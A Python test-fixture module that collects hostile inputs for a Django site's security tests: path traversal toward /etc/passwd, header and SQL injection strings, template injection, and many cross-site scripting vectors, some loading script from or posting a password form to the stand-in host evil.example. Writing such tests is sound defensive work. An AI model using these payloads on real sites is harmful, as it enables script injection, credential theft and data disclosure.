"""Every hostile input the tests throw at the site, in one place.

The hostile-input tests (tests/test_hostile_input.py) reuse these lists, so adding a
payload here tries it everywhere: in addresses, in query strings, in every text field
of every model and in the admin's live preview.
"""

# Path segments: put in place of a slug or a preview token, as a browser would send them
# (percent-encoded where a browser would encode). --------------------------------------

PATH_SEGMENTS = [
    "no-such-page",
    "UPPER-Case-Slug",
    "a" * 121,  # longer than any slug field
    "a" * 5000,
    "-",
    "_",
    "--",
    "1",
    "0",
    "-1",
    "99999999999999999999",
    "%20",
    "%2e%2e",  # ..
    "..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2fsettings.py",
    "%00",
    "slug%00",
    "slug%00.html",
    "%0d%0aSet-Cookie:%20evil=1",  # header injection
    "%25",
    "%",  # a lone percent sign
    "%zz",
    "%ff%fe",  # bytes that are not UTF-8
    "%c0%af",  # overlong UTF-8 encoding of "/"
    "%ed%a0%80",  # a lone high surrogate, percent-encoded
    "%ed%b2%a9",  # a lone low surrogate, percent-encoded
    "%e2%80%ae",  # RIGHT-TO-LEFT OVERRIDE
    "evil%e2%80%aegpj.exe",
    "%f0%9f%98%80",  # emoji
    "caf%c3%a9",  # é, precomposed
    "cafe%cc%81",  # e + combining acute accent
    "z%cd%a3%cd%a4%cd%a5%cd%a6%cd%a7%cd%a8%cd%a9",  # stacked combining marks ("zalgo")
    "%ef%bb%bf",  # byte order mark
    "%e2%80%8b",  # zero-width space
    "%ef%bf%bf",  # a non-character
    "%c2%a0",  # no-break space
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "%22%3E%3Csvg%20onload%3Dalert(1)%3E",
    "'%20OR%20'1'%3D'1",
    "1;DROP%20TABLE%20news_pressrelease",
    "%24%7B7*7%7D",  # ${7*7}
    "%7B%7B7*7%7D%7D",  # {{7*7}}
    "..;",
    "index.php",
    ".env",
    "wp-admin",
]

# Whole query strings, sent as they are (the list pages read `page`). ------------------

PAGE_VALUES = [
    "abc",
    "-1",
    "0",
    "1.5",
    "1e3",
    "0x10",
    " 1",
    "last",
    "LAST",
    "99999999999999999999",
    "9" * 400,
    "%00",
    "1%00",
    "%ff",
    "%ed%a0%80",
    "%e2%80%ae1",
    "%d9%a1",  # ARABIC-INDIC DIGIT ONE
    "%f0%9f%98%80",
    "[]",
]

QUERY_STRINGS = [
    *(f"page={value}" for value in PAGE_VALUES),
    "page",
    "page=",
    "page=1&page=abc",
    "page[]=1",
    "page=2&page=2",
    "=",
    "&&&",
    "%",
    "%%%",
    "%00=%00",
    "q=%00",
    "q=" + "a" * 10_000,  # a very long query string
    "a" * 10_000,
    "&".join(f"f{n}=1" for n in range(1_500)),  # more fields than Django accepts
    "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "q=%e2%80%aetxt.exe",
    "q=%f0%9f%98%80",
    "q=cafe%cc%81",
    "q=%ed%a0%80",
    "q=%ff%fe",
    "q=%0d%0aSet-Cookie:%20evil=1",
    "utm_source=%7B%7B7*7%7D%7D",
    "priority=../../etc/passwd",
    "priority=-1&status=draft",
    "status=draft",
    "preview=1",
]

# Raw (not percent-encoded) Unicode in a query string, as some clients send it.
RAW_UNICODE_QUERY_STRINGS = [
    "q=\u202etxt.exe",  # RIGHT-TO-LEFT OVERRIDE
    "q=\U0001f600",  # emoji
    "q=e\u0301\u0301\u0301",  # combining marks
    "q=\ufeff",
    "page=\u0661",  # ARABIC-INDIC DIGIT ONE
    "page=\u00bd",  # VULGAR FRACTION ONE HALF
]

BAD_HOSTS = [
    "evil.example",
    "evil.example:80",
    "localhost.evil.example",
    "127.0.0.1.evil.example",
    "127.0.0.1@evil.example",
    "localhost:abc",
    "[::1",
    "exa mple",
    "ex\u0430mple.com",  # a Cyrillic "а"
    "%00",
    "localhost\x00.evil.example",
    "a" * 300,
]

UNSAFE_METHODS = ["POST", "PUT", "DELETE", "PATCH"]
OTHER_METHODS = ["TRACE", "CONNECT", "PROPFIND", "FOO"]

# What an editor (or someone who has taken over an editor's account) might type into
# a text or Markdown field. -----------------------------------------------------------

MARKUP_PAYLOADS = [
    # Elements that run script or load another document
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*",
    "</p><script>alert(1)</script><p>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x oNeRrOr=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<frameset><frame src=https://evil.example/></frameset>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">defaced</p>',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<applet code=x></applet>",
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<meta http-equiv="Set-Cookie" content="evil=1">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    '<a href="/" onclick="alert(1)">home</a>',
    '<video><source onerror="alert(1)"></video>',
    "<marquee onstart=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Links with dangerous schemes, in HTML
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav&#9;ascript:alert(1)">click</a>',
    '<a href="jav&#x0A;ascript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
    '<a href="javascript&#58;alert(1)">click</a>',
    '<a href="\x01javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="VBScript:msgbox(1)">click</a>',
    '<a href="file:///etc/passwd">click</a>',
    '<a href="//evil.example/">protocol-relative</a>',
    # Links with dangerous schemes, in Markdown
    "[click](javascript:alert(1))",
    "[click](JAVASCRIPT:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click]( javascript:alert(1))",
    '[click](javascript:alert(1) "title")',
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![x](https://example.org/x.png "title" onerror=alert(1))',
    '![x" onerror="alert(1)](https://example.org/x.png)',
    '[x](https://example.org/" onmouseover="alert(1))',
    # Breaking out of attributes and elements
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "`><img src=x onerror=alert(1)>",
    "</a><a href=javascript:alert(1)>x</a>",
    "</main></body></html><script>alert(1)</script>",
    # Template and entity tricks
    "{{ request.META }}",
    "{% debug %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    # Odd Unicode
    "\u202eevil\u202c text",
    "\U0001f600 emoji",
    "e\u0301\u0302\u0303 combining",
    "\u200b\ufeff\u00a0",
    "a\x00b",
]
